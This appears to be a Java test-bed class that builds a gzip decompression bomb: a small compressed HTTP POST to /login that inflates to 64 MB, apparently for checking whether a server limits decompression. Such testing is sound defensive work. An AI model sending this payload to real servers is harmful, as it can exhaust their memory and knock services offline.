package io.tickertape.testbed.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.zip.GZIPOutputStream;

/** A small body that would be a large one. */
final class GzipBomb {
    private static final int MEGABYTES = 64;

    private GzipBomb() {}

    static String request() {
        String body = bytes().toString(ISO_8859_1);
        return "POST /login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                + "Content-Encoding: gzip\r\nContent-Length: " + body.length() + "\r\n\r\n" + body;
    }

    private static ByteArrayOutputStream bytes() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            for (int megabyte = 0; megabyte < MEGABYTES; megabyte++) {
                gzip.write(new byte[1 << 20]);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes;
    }
}
